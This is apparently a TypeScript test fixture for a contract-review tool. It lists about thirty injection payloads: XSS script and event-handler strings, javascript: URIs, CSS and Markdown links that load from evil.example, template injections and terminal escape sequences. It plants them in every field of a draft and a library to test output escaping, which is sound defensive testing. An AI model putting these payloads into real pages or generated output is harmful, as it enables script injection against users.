/** Texts that would do harm where they are taken for more than text, in all places where a draft or a library has text. */
import type { Language } from '../../server/src/contract/types.ts';
import { readDrafting } from '../../server/src/drafting/drafting.ts';
import type { Library } from '../../server/src/library/types.ts';
import { Words } from '../../server/src/messages/words.ts';
import { reportedDocument } from '../../server/src/report/report.ts';
import type { ReportedDocument } from '../../server/src/report/report.ts';
import { settled } from '../../server/src/review/acceptances.ts';
import type { Draft } from '../../server/src/features/support/draft.ts';
import { draftOf, LIBRARY } from '../features/support.ts';

/** Each tries to run `pwned`, or to load something from evil.example. */
export const PAYLOADS: readonly string[] = [
  '<script>pwned(1)</script>',
  '<img src=x onerror=pwned(2)>',
  '<svg onload=pwned(3)>',
  '<svg><script href="https://evil.example/s.js"/></svg>',
  '<style>@import "https://evil.example/s.css"; body { background: url(https://evil.example/b.png) }</style>',
  '<iframe src="javascript:parent.pwned(4)"></iframe><iframe srcdoc="<script>parent.pwned(5)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus>x</button></form><input autofocus onfocus=pwned(6)>',
  '<a href="javascript:pwned(7)">x</a><a href="data:text/html,<script>pwned(8)</script>">y</a><a href="vbscript:pwned(9)">z</a>',
  '</title></style></textarea></noscript><script>pwned(10)</script>',
  '"><script>pwned(11)</script>',
  '\'><img src=x onerror=pwned(12)>',
  '" onmouseover="pwned(13)" autofocus tabindex="1" onfocus="pwned(14)',
  '--><script>pwned(15)</script><!--',
  ']]><script>pwned(16)</script><![CDATA[',
  '&lt;script&gt;pwned(17)&lt;/script&gt;&#60;img src=x onerror=pwned(18)&#62;',
  '\uFF1Cscript\uFF1Epwned(19)\uFF1C/script\uFF1E <\u0130mg src=x onerror=pwned(20)> <scr\u0000ipt>pwned(21)</scr\u0000ipt>',
  '{{constructor.constructor("pwned(22)")()}} ${pwned(23)} <%= pwned(24) %> #{pwned(25)}',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><link rel="stylesheet" href="https://evil.example/l.css"><video src="https://evil.example/v"><details open ontoggle=pwned(26)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned(27)&gt;">',
  '\u202Enoitcennoc\u202C \u2066isolated\u2069 \u202Dforced',
  '![x](https://evil.example/i.png) [y](command:workbench.action.quit) [z](javascript:pwned(28))',
  '![x][r] [r]: https://evil.example/r.png',
  '# Heading > quote - item | cell | `code` **bold** ~~gone~~ $(alert) :smile: <https://evil.example>',
  '\\"; } * { background: url(https://evil.example/c.png) } @import "https://evil.example/d.css"; /*',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J \u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\ \b\b\b\r gone',
];

/**
 * A library that has got past every check: any text of it is hostile.
 *
 * @param isProse whether what is written in Markdown is hostile too: that is refused when it is read
 */
export function hostileLibrary(payload: string, isProse = true): Library {
  const turned = (value: unknown, key: string): unknown => {
    if (!isProse && ['explanation', 'why', 'lookFor'].includes(key)) return value;
    if (typeof value === 'string') return ['id', 'level', 'source', 'status'].includes(key) || key === 'url' || /^(?:error|warning|information|hint|off)$/u.test(value) ? value : `${value} ${payload}`;
    if (Array.isArray(value)) return key === 'clauses' ? value.map((each: unknown) => (typeof each === 'string' ? each : turned(each, ''))) : value.map((each) => turned(each, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, turned(each, name)]));
  };
  const library = turned(LIBRARY, '') as Library;
  const own = library.clauses.map((clause) => ({ ...clause, own: true, source: payload, elements: clause.elements.map((element) => ({ ...element, own: true, source: payload })) }));
  const excluded = { id: 'gone', name: { en: payload, fr: payload, nl: payload }, reason: payload };
  return { ...library, clauses: own, excluded: [excluded], profile: { ...library.profile, url: `javascript:pwned("url")//${payload}` } };
}

const RIGHT = 'The Customer may audit the Provider once a year';

/** A draft with a payload in its title, names, headings, terms, references, blanks, figures, evidence and acceptances. */
export function hostileText(payload: string, limit = 'once'): string {
  return `# Contract ${payload}

Between ${payload} NV, hereinafter the “Customer”, and **Evil ${payload}**, hereinafter the “Provider ${payload}”.

“Services ${payload}” means ${payload} and what Annex ${payload} lists.

“Data” means everything. ${payload}

## 1. Audit ${payload}

1.1 ${RIGHT} ${payload}. The “Undefined ${payload} Term” and the Services ${payload} of article 99.9 ${payload} [${payload}] [●] ${limit}.

1.1 Within thirty (20) days ${payload}, the Data ${payload}.

| ${payload} | b |
|---|---|
| c | ${payload} |

## 3. Exit ${payload}

<!-- contract-review: accept audit.report because "agreed ${payload.replace(/"|-->|--/gu, '')}" -->

3.1 The Provider keeps the data ${payload}.
`;
}

/** A hostile draft as it is reviewed, under a hostile library. */
export function hostileDraft(payload: string, language: Language, limit?: string, isProse = true): Draft {
  const text = hostileText(payload, limit);
  const draft = draftOf(text, {
    decisions: { 'audit.right': { status: 'weak', quote: `${RIGHT} ${payload}`, reason: 'yearly-cap' }, 'return.data': { status: 'contrary', quote: `The Provider keeps the data ${payload}`, reason: 'excluded' } },
    clauses: { audit: 'Audit', return: 'Exit' },
    language,
  });
  const library = hostileLibrary(payload, isProse);
  const outcome = settled(draft.review, readDrafting(draft.review.contract), library);
  return { ...draft, ...outcome, library, words: new Words(library, language) };
}

export function hostileDocument(payload: string, language: Language, path: string, limit?: string): ReportedDocument {
  const { review, drafting, words } = hostileDraft(payload, language, limit);
  return reportedDocument(path, { review, drafting }, words);
}
